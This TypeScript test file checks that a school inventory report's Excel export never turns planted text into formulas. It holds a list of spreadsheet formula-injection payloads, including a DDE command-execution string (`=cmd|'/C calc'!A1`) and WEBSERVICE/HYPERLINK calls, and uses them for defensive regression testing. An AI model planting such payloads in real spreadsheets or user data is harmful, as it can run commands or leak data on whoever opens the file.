import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { buildReport } from '#core/report/build-report.ts';
import type { RawCell } from '#core/import/types.ts';
import { aDevice, aRoom, anInventory, aSchool } from '#core/testing/builders.ts';
import { aBook, mappingOf, planOf } from '#core/testing/import-lists.ts';
import { aReportInput, defaultProfile } from '#core/testing/sample-report.ts';
import { parseProfile } from '#core/targets/parse-profile.ts';
import type { TargetProfile } from '#core/targets/target-profile.ts';
import { readList } from '#excel/read/read-list.ts';
import { REPORT_TEXTS } from '#texts/report.ts';
import { writeMendList } from './write-mend-list.ts';
import { writeWorkbook } from './write-workbook.ts';

/** What programs take for a formula, or have taken, when it begins a text. */
const PAYLOADS = [
  `=cmd|'/C calc'!A1`,
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '=HYPERLINK("http://example.org?x="&A1;"Hier")',
  '=WEBSERVICE("http://example.org/")',
  '"=1+1"',
  '",1)+WEBSERVICE("http://example.org',
  `'=1+1`,
  '";=1+1;"',
  '{=1+1}',
];
/** In every text that is planted, and in nothing else. */
const MARK = 'GIFT';

type Sheet = { readonly name: string; readonly xml: string };

const sheetsOf = (bytes: Uint8Array): readonly Sheet[] =>
  Object.entries(unzipSync(bytes)).flatMap(([name, part]) =>
    name.startsWith('xl/worksheets/sheet') ? [{ name, xml: strFromU8(part) }] : [],
  );
const unescaped = (text: string): string =>
  text
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');
const formulasOf = ({ xml }: Sheet): readonly string[] =>
  [...xml.matchAll(/<(?:f|formula|formula1|formula2)(?:\s[^>]*)?>([^<]*)<\//g)].map(([, text = '']) =>
    unescaped(text),
  );
/** What a program calculates with: the formula without what stands in quotes. */
const calculated = (formula: string): string =>
  formula.replace(/"(?:[^"]|"")*"/g, '""').replace(/'(?:[^']|'')*'!/g, 'S!');
/** References, numbers, operators, names of our own and the few functions that the report is made of. */
const OUR_FORMULA =
  /^(?:(?:SUM|SUMIFS|COUNTIFS|IF|HYPERLINK|LEN|TRIM|AND|OR|NOT|ISNUMBER)\(|S!|\$?[A-Z]{1,3}\$?\d+|[A-Z][A-Za-z]*(?:_[A-Za-z0-9]+)+|Stichtag|\d+|""|[-+*/:<>=,)]|\s)+$/;

const OUR_RANGES = /^(?:[\p{L}\d_]+![$A-Z\d]+(?::[$A-Z\d]+)?,?)+$/u;

const expectNoFormulaFromData = (bytes: Uint8Array): void => {
  const parts = unzipSync(bytes);
  const names = [
    ...strFromU8(parts['xl/workbook.xml']!).matchAll(/<definedName name="([^"]*)"[^>]*>([^<]*)</g),
  ];
  const ownNames = new Set(names.map(([, name]) => name));
  for (const sheet of sheetsOf(bytes))
    for (const formula of formulasOf(sheet)) {
      const shape = calculated(formula);
      expect(shape).not.toContain(MARK);
      if (!ownNames.has(shape)) expect(shape, `${sheet.name}: ${formula}`).toMatch(OUR_FORMULA);
    }
  // Other ways into a program: links to the outside, and names that are formulas.
  expect(
    Object.keys(parts).filter((name) => /externalLink|connections|vbaProject|queryTable/.test(name)),
  ).toEqual([]);
  for (const [name, part] of Object.entries(parts))
    if (name.endsWith('.rels')) expect(strFromU8(part)).not.toContain('TargetMode="External"');
  for (const [, , value = ''] of names) expect(calculated(unescaped(value))).toMatch(OUR_RANGES);
};

/** Every text of every sheet, as our reader finds it. */
const textsOf = (bytes: Uint8Array): ReadonlySet<string> => {
  const book = readList(bytes, 'b.xlsx');
  if (!book.ok) throw new Error(book.error.code);
  return new Set(
    book.value.sheets.flatMap(({ rows }) =>
      rows.flatMap(({ cells }) => cells.filter((cell): cell is string => typeof cell === 'string')),
    ),
  );
};

/** Which fields of a record hold free text: those that are empty or text, without closed choices, dates and links. */
const plant = <Row extends object>(row: Row, kept: readonly string[], payload: string): Row =>
  Object.fromEntries(
    Object.entries(row).map(([key, value]) => [
      key,
      !kept.includes(key) && (value === null || typeof value === 'string')
        ? `${payload} ${MARK} ${key}`
        : value,
    ]),
  ) as Row;

const DEVICE_KEPT = [
  'id',
  'categoryId',
  'roomId',
  'containerTag',
  'status',
  'userGroup',
  'owner',
  'purchasedOn',
  'purchasePriceCents',
  'earmarkedUntil',
  'warrantyUntil',
  'serviceLifeYears',
  'defect',
  'decommissionedOn',
  'lastSeenOn',
];
const ROOM_KEPT = ['id', 'seats', 'areaM2', 'lanSockets', 'powerGroups', 'wlanCoverage'];
const SCHOOL_KEPT = [
  'schoolType',
  'pupils',
  'pupilsByGrade',
  'classes',
  'classesByGrade',
  'teachers',
  'bandwidthMbit',
  'countedOn',
];

/** A profile of somebody else, each word of it a payload. */
const plantedProfile = (payload: string): TargetProfile => {
  const words = ['name', 'shortName', 'title', 'note', 'basis', 'minimumFeatures', 'edition'];
  const planted: unknown = JSON.parse(JSON.stringify(defaultProfile()), (key, value: unknown) =>
    words.includes(key) && typeof value === 'string' ? `${payload} ${MARK} ${value}`.slice(0, 60) : value,
  );
  const parsed = parseProfile(planted);
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.error));
  return parsed.value;
};

describe('the report', () => {
  it.each(PAYLOADS)('makes no formula of %j in any text field', async (payload) => {
    const inventory = anInventory({
      school: plant(aSchool(), SCHOOL_KEPT, payload),
      rooms: ['r-1', 'r-2'].map((id) => ({
        ...plant(aRoom({ id }), ROOM_KEPT, payload),
        exemptions: [
          {
            requirement: defaultProfile().requirements[0]!.id,
            reason: `${payload} ${MARK} reason`,
            since: '2026-01-01',
            until: null,
            isPrivate: false,
          },
        ],
        extra: { [`${payload} ${MARK} Spalte`]: `${payload} ${MARK} Wert` },
      })),
      devices: ['in-use', 'defective', 'decommissioned'].map((status, at) => ({
        ...plant(aDevice({ id: `d-${at}`, roomId: 'r-1' }), DEVICE_KEPT, payload),
        status: status as 'in-use',
        defect: {
          since: null,
          text: `${payload} ${MARK} text`,
          reportedOn: null,
          ticket: `${payload} ${MARK}`,
          repairedOn: null,
        },
        extra: { [`${payload} ${MARK} Spalte`]: `${payload} ${MARK} Wert` },
      })),
    });
    const model = buildReport(
      aReportInput(inventory, { includeFreeTexts: true, profile: plantedProfile(payload) }),
      REPORT_TEXTS,
    );
    const bytes = await writeWorkbook(model);
    expectNoFormulaFromData(bytes);
    const texts = textsOf(bytes);
    const found = (field: string): boolean => [...texts].some((text) => text.includes(`${MARK} ${field}`));
    for (const field of ['name', 'serialNumber', 'roomNumber', 'building', 'note', 'reason', 'text', 'Wert'])
      expect(found(field), field).toBe(true);
  });

  it('keeps links without a text that Excel takes for a formula', async () => {
    // Excel takes no literal of more than 255 characters inside a formula, and offers to repair the file.
    const long = aRoom({ id: 'r-1', roomNumber: 'R'.repeat(300) });
    const inventory = anInventory({ rooms: [long], devices: [aDevice({ roomId: 'r-1' })] });
    const bytes = await writeWorkbook(buildReport(aReportInput(inventory), REPORT_TEXTS));
    for (const formula of sheetsOf(bytes).flatMap(formulasOf))
      for (const [literal] of formula.matchAll(/"(?:[^"]|"")*"/g)) expect(literal.length).toBeLessThan(258);
  });
});

describe('the list to mend', () => {
  it('makes no formula of any cell, heading or name of a sheet', async () => {
    const profile = defaultProfile();
    const rows: readonly (readonly RawCell[])[] = PAYLOADS.map((payload) => [
      `${payload} ${MARK} tag`,
      `${payload} ${MARK} kind`,
      payload,
      payload,
      `${payload} ${MARK} extra`,
    ]);
    const book = aBook({
      [`=cmd|' C calc'!A1 ${MARK}`]: [
        ['Inv.-Nr.', 'Gerät', 'Raum', 'Kaufdatum', `=1+1 ${MARK}`],
        ['0001', 'Beamer', '101', '31.02.2020', 'x'],
        ...rows,
      ],
    });
    const bytes = await writeMendList(book, mappingOf(book, profile), planOf(book, profile));
    expectNoFormulaFromData(bytes);
    const texts = [...textsOf(bytes)];
    for (const payload of ['=1+1', '+1+1', '@SUM(A1)', '＝1+1'])
      expect(texts.some((text) => text.startsWith(payload))).toBe(true);
  });
});
